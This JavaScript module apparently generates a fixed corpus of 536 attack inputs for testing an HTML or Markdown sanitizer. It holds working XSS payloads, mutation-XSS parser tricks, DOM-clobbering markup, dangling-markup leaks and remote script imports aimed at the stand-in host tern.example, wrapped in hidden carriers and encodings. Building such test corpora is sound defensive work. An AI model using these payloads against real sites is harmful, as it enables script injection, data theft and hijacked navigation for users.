// Attacks that are made, the same on every run: what does harm, in what carries it, written in one of the ways in which texts come.

/** How many are made. */
const MANY = 536;
const SEED = 2031;

const CODES = ['alert(1)', '[2].map(alert)', "eval('al'+'ert(3)')", "import('//tern.example/m.js')", "location='//tern.example/gone'", "document.title='tern'"];

/** Addresses that do something where they are followed or fetched, and some that are none. */
const ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(2)', 'java\tscript:alert(3)', '\u0001 javascript:alert(4)', 'javascript&colon;alert(5)', '&#x6A;avascript:alert(6)',
  'javascript://tern.example/%0aalert(7)', "data:text/html,<script>alert('8')</script>", 'data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(10)%22/>', 'blob:https://tern.example/11', 'vbscript:msgbox(12)',
  'feed:javascript:alert(13)', 'view-source:https://tern.example/', 'filesystem:https://tern.example/temporary/14', 'about:srcdoc', 'jar:https://tern.example!/15',
  '//tern.example/16', '/\\tern.example/17', 'https:tern.example', '\\\\tern.example\\18', 'http://[::1', 'https://tern.example:99999/', 'http://a b/', 'http://%zz/',
  'https://\ud800.example/', 'https://tern.example/\udc00', 'javascript:\u2028alert(19)', '\u202ejavascript:alert(20)', 'https://user:pass@tern.example/21', '#', '?', 'x:',
];

/** Where an address can stand; `@` is one. */
const PLACES = [
  '<a href="@">go</a>', '<a ping="@" href="https://tern.example/">go</a>', '<map name=m><area shape=default href="@"></map><img usemap=#m src=/corpus/photo.png>',
  '<img src="@">', '<img srcset="@ 2x, @ 3x">', '<img src="data:," data-src="@">', '<img data-lazy-src="@" data-lazy-srcset="@ 800w">', '<img data-orig-src="@" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  '<img longdesc="@" src=x lowsrc="@">', '<picture><source srcset="@"><source data-srcset="@"><img alt=p></picture>', '<iframe src="@"></iframe>', '<iframe data-src="@" sandbox="allow-same-origin allow-scripts allow-top-navigation"></iframe>',
  '<iframe srcdoc="<a href=\'@\'>x</a>"></iframe>', '<embed src="@">', '<object data="@"><param name=movie value="@"></object>', '<video src="@" poster="@" controls></video>', '<audio><source src="@"></audio>',
  '<video><track default src="@"></video>', '<form action="@"><button>go</button></form>', '<form id=f></form><button form=f formaction="@">go</button>', '<input type=image src="@" formaction="@">', '<isindex action="@">',
  '<blockquote cite="@">said</blockquote><q cite="@">said</q><ins cite="@">new</ins>', '<table background="@"><td background="@">cell</table>', '<body background="@">', '<base href="@"><a href=x>go</a>', '<link rel=stylesheet href="@">',
  '<link rel=import href="@"><link rel=prefetch href="@">', '<meta http-equiv=refresh content="0;url=@">', '<meta http-equiv="Set-Cookie" content="@">', '<p style="background:url(@)">words</p>', '<style>@import "@";p{background:url(@)}</style>',
  '<svg><a xlink:href="@"><text y=9>go</text></a></svg>', '<svg><use href="@#x"/><image href="@" xlink:href="@"/></svg>', '<svg><a id=l><animate attributeName=href values="@"/><text y=9>go</text></a></svg>', '<svg><set attributeName=href to="@"/></svg>',
  '<svg><script href="@"/></svg>', '<svg><feImage href="@"/><pattern xlink:href="@"/></svg>', '<math href="@"><mi>x</mi></math>', '<math><maction actiontype="statusline#@" xlink:href="@"><mi>x</mi></maction></math>', '<script src="@"></script>',
  '<oembed url="@"></oembed>', '<figure class=media><div data-oembed-url="@"></div></figure>', '<amp-iframe src="@" layout=responsive><amp-img src="@" placeholder></amp-img></amp-iframe>', '<amp-youtube data-videoid="@"></amp-youtube>',
  '<amp-video src="@" poster="@"></amp-video><amp-audio src="@"></amp-audio>', '<amp-twitter data-tweetid="@"></amp-twitter><amp-facebook data-href="@"></amp-facebook>', '<div class=fb-post data-href="@"></div><div class=fb-video data-href="@"></div>',
  '<lite-youtube videoid="@"></lite-youtube>', '<blockquote class=twitter-tweet><a href="@">then</a></blockquote>', '<blockquote class=instagram-media data-instgrm-permalink="@"></blockquote>', '<blockquote class=tiktok-embed cite="@"></blockquote>',
  '<figure class="wp-block-embed"><div class="wp-block-embed__wrapper">\n@\n</div></figure>', '<p>@</p>', '<div class="jetpack-video-wrapper"><iframe src="https://www.youtube.com/embed/@"></iframe></div>', '<noscript><img src="@"></noscript>',
  '<a href="https://tern.example/" data-href="@" data-url="@" target="_top">go</a>', '<portal src="@"></portal><fencedframe src="@"></fencedframe>', '<frameset><frame src="@"></frameset>', '<applet code="@" archive="@"></applet>', '<bgsound src="@"><xml src="@"></xml>',
  '[caption id="a" align="@"]<img src="@"> words[/caption]', '[embed]@[/embed]', '[vc_row bg="@"][vc_column link="url:@"]words[/vc_column][/vc_row]', '[video src="@" poster="@"][audio mp3="@"]', '[et_pb_button button_url="@"]go[/et_pb_button]',
  '[words](@)', '![words](@ "title")', '<@>', '[words][ref]\n\n[ref]: @', '[![in](@)](@)', '```@\n<img src="@">\n```', '# [x](@)\n\n- [y](@)\n> ![z](@)',
];

/** What runs code; `%` is some. */
const RUNS = [
  '<img src=x onerror="%">', '<svg onload="%">', '<svg><animate onbegin="%" attributeName=x dur=1s></svg>', '<details open ontoggle="%"><summary>s</summary>d</details>', '<input autofocus onfocus="%">', '<body onload="%">', '<video><source onerror="%"></video>',
  '<p tabindex=0 onfocus="%" autofocus>words</p>', '<style onload="%"></style>', '<iframe onload="%"></iframe>', '<iframe srcdoc="<script>%</script>"></iframe>', '<script>%</script>', '<svg><script>%</script></svg>', '<math><mtext onclick="%">x</mtext></math>',
  '<marquee onstart="%">words</marquee>', '<a href=# onclick="%" onauxclick="%">go</a>', '<object onerror="%" data=x></object>', '<xss onpointerover="%" style="position:fixed;inset:0" onclick="%">', '<div popover id=p onbeforetoggle="%">p</div><button popovertarget=p>go</button>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%&gt;">', '<svg></p><style><a id="</style><img src=x onerror=%>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror="%">', '<noscript><p title="</noscript><img src=x onerror=%>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=%>"></textarea>', '<title><p title="</title><img src=x onerror=%>"></title>', '<xmp><p title="</xmp><img src=x onerror=%>"></xmp>', '<noembed><p title="</noembed><img src=x onerror=%>"></noembed>', '<template><img src=x onerror="%"></template>',
  '<template shadowrootmode=open><img src=x onerror="%"></template>', '<div><template shadowrootmode=open><script>%</script></template></div>', '<select><template><img src=x onerror="%"></template><option><svg onload="%"></select>', '<!--><img src=x onerror="%">-->', '<!--!><svg onload="%">--!>',
  '<![CDATA[><img src=x onerror="%">]]>', '<svg><![CDATA[</svg><img src=x onerror="%">]]></svg>', '<?xml ><img src=x onerror="%">?>', '<plaintext><img src=x onerror="%">', '<listing><img src=x onerror="%"></listing>', '<svg><desc><img src=x onerror="%"></desc></svg>',
  '<svg><foreignObject><img src=x onerror="%"></foreignObject></svg>', '<math><annotation-xml encoding="text/html"><img src=x onerror="%"></annotation-xml></math>', '<svg><title><style><img src=x onerror="%"></style></title></svg>', '<table><colgroup><img src=x onerror="%"></table>', '<img src=x/onerror=%//>',
  "<a href='https://tern.example/?<img src=x onerror=%>'>go</a>", '<img alt="<x" title="/><img src=x onerror=%>">', '<scr<script>ipt>%</scr</script>ipt>', '<<img src=x onerror="%">', '<img """><script>%</script>">', '<p id="</p><img src=x onerror=%>">',
];

/** What clobbers, leaks, covers, or goes somewhere without code. */
const OTHERS = [
  '<img name=createElement><img id=body name=body>', '<form name=baseURI><input name=parentNode><input name=attributes><input name=nodeName><input name=firstChild></form>', '<form id=documentElement><input name=nextSibling><input name=getAttribute></form>', '<a id=defaultView name=defaultView href=//tern.example/>x</a><a id=defaultView>',
  '<img src="//tern.example/leak?', "<img src='//tern.example/leak?", '<a href="//tern.example/leak?', "<iframe name='", '<base target="', '<textarea>', '<style>*{display:none}', '<form action=//tern.example/><textarea name=t>', '<button form=x formaction=//tern.example/>go', '<option><plaintext>',
  '<dialog open>words</dialog>', '<div style="position:fixed;inset:0;z-index:9999">cover</div>', '<p class="comment-form notice" part=article slot=x is=article-widget>words</p>', '<article-widget src=//tern.example/a.json loading=eager></article-widget>', '<slot name=x></slot><x-y></x-y>',
  '<meta http-equiv=refresh content=0;//tern.example/>', '<meta http-equiv=Content-Security-Policy content="default-src \'none\'">', '<base href=//tern.example/><img src=a.png>', '<link rel=stylesheet href=//tern.example/s.css><link rel=dns-prefetch href=//tern.example>', '<style>@import "//tern.example/s.css";@font-face{font-family:x;src:url(//tern.example/f)}p{font-family:x}</style>',
  '<form action=//tern.example/><input type=submit autofocus><input type=image src=//tern.example/i.png></form>', '<keygen name=k><menuitem label=x>', '<iframe src=https://www.youtube.com/embed/abc allow="camera *; fullscreen" allowfullscreen sandbox="allow-same-origin allow-scripts allow-top-navigation"></iframe>', '<iframe src=/corpus/photo.png sandbox="allow-same-origin allow-scripts"></iframe>',
  '<a href=https://tern.example/ target=_top rel=opener>go</a>', '<a href="https://tern.example/" download="x.exe" ping=//tern.example/ping attributionsrc=//tern.example/a>go</a>', '<img src=/corpus/photo.png attributionsrc=//tern.example/a crossorigin=use-credentials referrerpolicy=unsafe-url>', '<audio autoplay src=//tern.example/a.mp3></audio><video autoplay muted src=//tern.example/v.mp4></video>',
  '\u202e<b>\u2066turned</b>\u2069\u202c words', '\ud800<b>\udc00half</b>\ud83d', '<b title="\ud800">\udfff</b><a href="https://tern.example/\ud800">half</a>', '\u0000<img\u0000 src=x>', '<p>\u{e0001}\u{e0061}tags\u200b\u200d\ufeff</p>', '<bdo dir=rtl><bdo dir=rtl>turned',
];

/** What can stand around it; `*` is it. */
const CARRIERS = [
  '*', '<div hidden>*</div>', '<div style="display:none">*</div>', '<div hidden="until-found">*</div>', '<span class="screen-reader-text">*</span>', '<div aria-hidden="true">*</div>', '<div role="tabpanel" hidden id=t>*</div><a href=#t aria-controls=t>tab</a>',
  '<details><summary>*</summary>*</details>', '<figure><img src=/corpus/photo.png><figcaption>*</figcaption></figure>', '<table><tr><td>*<th>*</table>', '<ul data-checked=true><li>*<li data-list=checked>*</ul>', '<ruby>*<rp>(</rp><rt>*</rt></ruby>', '<svg><foreignObject>*</foreignObject></svg>', '<svg><desc>*</desc><text>*</text></svg>',
  '<math><mtext>*</mtext></math>', '<math><annotation-xml encoding=text/html>*</annotation-xml></math>', '<template>*</template>', '<noscript>*</noscript>', '<select><option>*</select>', '<a href=https://tern.example/>*</a>', '<pre class="ql-syntax">*</pre>', '<div class="ql-code-block-container"><div class="ql-code-block">*</div></div>', '<h2>*</h2>',
  '[vc_row][vc_column_text]*[/vc_column_text][/vc_row]', '[caption]<img src=/corpus/photo.png> *[/caption]', '<blockquote class="wp-embedded-content">*</blockquote><iframe class=wp-embedded-content src=https://tern.example/embed></iframe>', '<p>words</p>\n\n*\n\n<p>more</p>', '<table><caption>*</caption><tr><td>1</table>', '<b><i><u>*', '</p></div></body></html>*',
];

const escaped = (/** @type {string} */ text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const lettered = (/** @type {string} */ text, as = (/** @type {number} */ code) => `&#${code};`) => text.replace(/[<>"]/g, (letter) => as(letter.charCodeAt(0)));
/** The ways in which a text comes. @type {Record<string, (text: string) => string>} */
const WAYS = {
  'as it is': (text) => text,
  'in capitals': (text) => text.replace(/<\/?[a-z-]+/g, (tag) => tag.toUpperCase()),
  'escaped': escaped,
  'escaped twice': (text) => escaped(escaped(text)),
  'in numbers': (text) => lettered(text),
  'in numbers that end in nothing': (text) => lettered(text, (code) => `&#x${code.toString(16)}`),
  'with tabs and line ends': (text) => text.replace(/<([a-z][a-z0-9-]*) /g, '<$1\n\t\f/'),
  'with halves of letters': (text) => text.replace(/>/, '>\ud83d').replace(/ /, ' \udc00'),
  'with turning signs': (text) => text.replace(/>/g, '>\u202e\u2067'),
  'cut in the middle': (text) => text.slice(0, Math.ceil(text.length * 0.7)),
  'in Markdown': (text) => `## Words\n\n**Bold** [go](javascript:alert(1))\n\n${text}\n\n- one\n- [two](${text.slice(0, 40)})`,
};

/** A small generator of numbers. @param {number} state */
function numbers(state) {
  return (/** @type {number} */ below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

/** The attacks: each kind of harm in turn, each carrier and each way about as often. */
export function made() {
  const below = numbers(SEED);
  const one = (/** @type {readonly string[]} */ list) => list[below(list.length)];
  const harms = [
    ...PLACES.map((place, at) => ({ name: `place-${at}`, make: () => place.replaceAll('@', one(ADDRESSES)) })),
    ...RUNS.map((run, at) => ({ name: `run-${at}`, make: () => run.replaceAll('%', one(CODES)) })),
    ...OTHERS.map((other, at) => ({ name: `other-${at}`, make: () => other })),
  ];
  const ways = Object.keys(WAYS);
  const attacks = new Map();
  for (let turn = 0; attacks.size < MANY; turn += 1) {
    const { name, make } = harms[turn % harms.length];
    // The first time each harm comes as it is.
    const bare = turn < harms.length;
    const harm = make();
    const carried = (bare ? '*' : CARRIERS[turn % CARRIERS.length]).replaceAll('*', () => harm);
    const way = bare ? ways[0] : one(ways);
    const input = WAYS[way](carried);
    if (![...attacks.values()].includes(input)) attacks.set(`made-${turn}-${name} ${way}`, input);
  }
  return [...attacks].map(([id, input]) => ({ id, input }));
}
